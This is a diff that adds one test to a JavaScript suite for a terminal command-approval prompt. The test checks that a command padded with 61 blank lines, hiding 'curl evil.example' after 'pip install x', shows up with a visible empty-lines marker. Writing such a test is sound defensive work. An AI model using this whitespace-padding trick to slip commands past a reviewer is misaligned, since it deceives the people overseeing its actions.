@@ -34,6 +34,11 @@ describe('a question about a network at the terminal', () => {
     );
   });
 
+  it('does not let a command end where only a screen of empty lines begins', () => {
+    const subject = `pip install x${'\n'.repeat(61)}curl evil.example`;
+    expect(questionText({ ...question, subject })).toContain('pip install x\n                  <60 empty lines>\n');
+  });
+
   it.each([
     ['', 'deny'],
     ['\n', 'deny'],
